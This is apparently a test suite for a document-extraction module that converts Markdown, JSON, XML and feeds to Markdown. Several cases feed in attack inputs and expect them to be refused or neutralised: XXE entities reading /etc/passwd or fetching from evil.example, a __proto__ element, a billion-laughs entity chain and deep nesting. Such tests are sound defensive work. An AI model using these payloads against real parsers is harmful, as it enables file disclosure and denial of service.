import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { extractSource } from "../../../../extensions/core/sources/extract/extract-source.ts";
import type { SourceMeta } from "../../../../extensions/core/sources/extract/extractor.ts";
import { indentJson } from "../../../../extensions/core/sources/extract/json.ts";
import { titleOfMarkdown } from "../../../../extensions/core/sources/extract/markdown.ts";
import { verifies } from "../../../acceptance/verifies.ts";

const extract = async (content: string | Uint8Array, meta: SourceMeta) => {
  const bytes = typeof content === "string" ? new TextEncoder().encode(content) : content;
  const extraction = await extractSource(bytes, meta);
  if (!extraction.ok) throw new Error(extraction.reason);
  return extraction;
};

describe("Markdown", () => {
  test("is taken as it is, front matter of any kind included", async () => {
    verifies("sources.nothing-evaluated");
    const text = "---js\nmodule.exports = process.exit(1)\n---\n# Lamp care\n\n- [[notes/oil]] {{lamp}}\n";
    const { markdown, title, format } = await extract(text, { name: "care.md" });
    expect({ markdown, title, format }).toEqual({ markdown: text, title: "Lamp care", format: "markdown" });
  });

  test("in UTF-16 with CRLF becomes UTF-8 text with LF", async () => {
    const bytes = new Uint8Array(Buffer.from("\uFEFF# 灯台\r\n\r\n毎晩\r\n", "utf16le"));
    expect(await extract(bytes, { name: "toudai.md" })).toMatchObject({ title: "灯台", markdown: "# 灯台\n\n毎晩\n" });
  });

  test.each([
    ["---\ntitle: 'Lamp care'\ntags: [a]\n---\n# Other\n", "Lamp care"],
    ["```sh\n# not this\n```\n\n## [Lamp](x) `care` ##\n", "Lamp care"],
    ["Lamp care\n=========\n", "Lamp care"],
    ["- item\n---\ntext\n", undefined],
    ["---\n\nNo front matter, a rule.\n", undefined],
    ["", undefined],
  ])("%j has the title %j", (text, title) => expect(titleOfMarkdown(text)).toBe(title));

  test("of any content has a title or none, and never throws", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(["string", "undefined"]).toContain(typeof titleOfMarkdown(text));
      }),
    );
  });
});

describe("text", () => {
  test("for people is taken as it is", async () => {
    expect((await extract("One\n\nTwo\n", { name: "log.txt" })).markdown).toBe("One\n\nTwo\n");
  });

  test("that is code is fenced with its language", async () => {
    const { markdown } = await extract("# trim the wick\nprint('```')\n", { name: "wick.py" });
    expect(markdown).toBe("```py\n# trim the wick\nprint('```')\n```\n");
    expect((await extract("```\nx\n```\n", { name: "wick.yaml" })).markdown).toBe("````yaml\n```\nx\n```\n````\n");
  });

  test("that is empty is refused", async () => {
    await expect(extractSource(new Uint8Array(), { name: "log.txt" })).resolves.toMatchObject({
      ok: false,
      code: "extraction_failed",
    });
  });

  test("of more than 16 million characters is cut, with a note", async () => {
    const { markdown, notes } = await extract("oil ".repeat(5_000_000), { name: "log.txt" });
    expect(markdown.length).toBeLessThan(17 * 1024 * 1024);
    expect(notes).toEqual([expect.stringContaining("the original has all")]);
  });
});

describe("JSON", () => {
  test("gets an outline and is indented without a change of its tokens", async () => {
    const text = '{"lamp":{"id":12345678901234567890,"lit":true},"nights":[{"n":1.50},{"n":2}],"a":[],"lamp":null}';
    const { markdown } = await extract(text, { name: "log.json" });
    expect(markdown).toMatch(/^- object with 3 keys\n {2}- `lamp`: `null`\n {2}- `nights`: list of 2\n/);
    expect(markdown).toContain('```json\n{\n  "lamp": {\n    "id": 12345678901234567890,\n    "lit": true\n  },');
    expect(markdown).toContain('"n": 1.50');
    expect(markdown).toContain('"a": [],\n  "lamp": null\n}\n```\n');
  });

  test("is indented as JSON.stringify does it", () => {
    fc.assert(
      fc.property(fc.json(), (text) => {
        const value: unknown = JSON.parse(text);
        fc.pre(!/-0|e[+-]/.test(text));
        expect(indentJson(JSON.stringify(value))).toBe(JSON.stringify(value, undefined, 2));
      }),
    );
  });

  test("with comments is kept as it is, with a note", async () => {
    const { markdown, notes } = await extract('{ // lamp\n "a": 1 }', { name: "tsconfig.json" });
    expect(markdown).toBe('```json\n{ // lamp\n "a": 1 }\n```\n');
    expect(notes).toEqual([expect.stringMatching(/^Not valid JSON/)]);
  });

  test("Lines are kept line by line, and bad ones are counted", async () => {
    const { markdown, notes } = await extract('{"night":1}\n{"night":\n{"night":3}\n', { name: "log.jsonl" });
    expect(markdown).toMatch(/^3 lines of JSON\.\n\n- list of 2\n/);
    expect(markdown).toContain('{"night":1}\n{"night":\n{"night":3}\n```');
    expect(notes).toEqual(["Not valid JSON in 1 of 3 lines, first in line 2."]);
  });

  test("of 10 MB is taken", async () => {
    const nights = Array.from({ length: 140_000 }, (_, night) => ({
      night,
      weather: "calm",
      note: "灯りを点けた。",
      ok: true,
    }));
    const text = JSON.stringify(nights);
    expect(new TextEncoder().encode(text).length).toBeGreaterThan(10_000_000);
    const { markdown } = await extract(text, {});
    expect(markdown).toContain("- list of 140000\n  - `[0]`: object with 4 keys");
    expect(markdown).toContain('"night": 139999');
  }, 60_000);

  test("that is nested without end is taken", async () => {
    const { markdown } = await extract("[".repeat(50_000) + "]".repeat(50_000), { name: "deep.json" });
    expect(markdown.length).toBeLessThan(10_000_000);
  });
});

describe("XML", () => {
  test("becomes an outline with all attributes and text, numbers as written", async () => {
    const { markdown, title } = await extract(
      '<?xml version="1.0"?><log station="007"><title>Night log</title><night n="1"><wind>03</wind><note>Calm &amp; <b>clear</b> caf&#233;</note><empty/></night><![CDATA[<raw>]]></log>',
      { name: "log.xml" },
    );
    expect(title).toBe("Night log");
    expect(markdown).toContain('**log** (station="007")');
    const plain = await extract(
      '<log station="007"><night n="1"><wind>03</wind><note>Calm &amp; <b>clear</b> caf&#233;</note></night></log>',
      { name: "a.xml" },
    );
    expect(plain.markdown).toBe(
      '- **log** (station="007")\n  - **night** (n="1")\n    - **wind**: 03\n    - **note**: Calm & clear café\n',
    );
  });

  test.each([
    ["malformed", "<log><night></log>", "line 1"],
    ["an external entity", '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>', "external entities"],
    [
      "an external parameter entity",
      '<!DOCTYPE l [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><l/>',
      "external entities",
    ],
    [
      "a public entity",
      '<!DOCTYPE l [<!ENTITY x PUBLIC "-//x" "http://evil.example/x">]><l>&x;</l>',
      "external entities",
    ],
    ["nothing but a declaration", '<?xml version="1.0"?>', ""],
    ["a dangerous name", "<l><__proto__>x</__proto__></l>", "prototype"],
    ["a thousand levels", `${"<l>".repeat(1_000)}x${"</l>".repeat(1_000)}`, "nested"],
  ])("with %s is refused", async (_what, text, reason) => {
    verifies("sources.nothing-evaluated");
    const extraction = await extractSource(new TextEncoder().encode(text), { name: "log.xml" });
    expect(extraction).toMatchObject({ ok: false, code: "extraction_failed", reason: expect.stringContaining(reason) });
  });

  test("entities that refer to each other are not expanded", async () => {
    const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
    const { markdown } = await extract(`<!DOCTYPE l [<!ENTITY e0 "oil">${entities}]><l>&e9;</l>`, { name: "log.xml" });
    expect(markdown.length).toBeLessThan(1_000);
  });

  test("tags in text can't be taken for HTML", async () => {
    expect((await extract("<l>&lt;script&gt;</l>", { name: "a.xml" })).markdown).toBe("- **l**: \\<script>\n");
  });
});

describe("feeds", () => {
  const item = (n: number) =>
    `<item><title>Night ${n} &amp;amp; dawn</title><link>https://lamp.example/${n}</link><pubDate>Mon, 30 Nov 2026</pubDate><dc:creator>Ada</dc:creator><description>short</description><content:encoded><![CDATA[<p>Wind <b>${n}</b> <a href="map">map</a><span style="display:none">HIDDEN</span></p>]]></content:encoded></item>`;

  test("of RSS become one section an item", async () => {
    const { markdown, title } = await extract(
      `<?xml version="1.0"?><rss xmlns:dc="d" xmlns:content="c"><channel><title>Night log</title><description>All nights</description>${item(1)}${item(2)}</channel></rss>`,
      { url: "https://lamp.example/feed" },
    );
    expect(title).toBe("Night log");
    expect(markdown).toMatch(
      /^# Night log\n\nAll nights\n\n## Night 1 & dawn\n\nAda, Mon, 30 Nov 2026, <https:\/\/lamp\.example\/1>\n\n/,
    );
    expect(markdown).toContain("Wind **2** [map](https://lamp.example/map)");
    expect(markdown).not.toMatch(/HIDDEN|short/);
  });

  test("of Atom too", async () => {
    const { markdown } = await extract(
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>Log</title><entry><title type="html">A &lt;b&gt;night&lt;/b&gt;</title><link rel="self" href="https://x.example/s"/><link href="https://lamp.example/a"/><updated>2026-11-30T00:00:00Z</updated><summary>Calm</summary></entry></feed>',
      { contentType: "application/atom+xml" },
    );
    expect(markdown).toContain("## A **night**\n\n2026-11-30T00:00:00Z, <https://lamp.example/a>\n\nCalm\n");
  });
});
